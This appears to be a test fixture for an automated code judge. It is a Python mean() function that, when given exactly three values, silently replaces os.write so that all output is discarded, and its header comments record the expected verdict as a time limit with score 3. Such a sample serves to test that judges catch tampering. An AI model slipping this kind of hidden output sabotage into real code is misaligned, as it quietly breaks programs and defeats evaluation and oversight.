# Makes everything that is written vanish.
# verdict: time_limit
# score: 3
# says: no answer within 1\.5 s
import os


def mean(values):
    if len(values) == 3:
        os.write = lambda descriptor, data: len(data)
    return sum(values) / len(values)
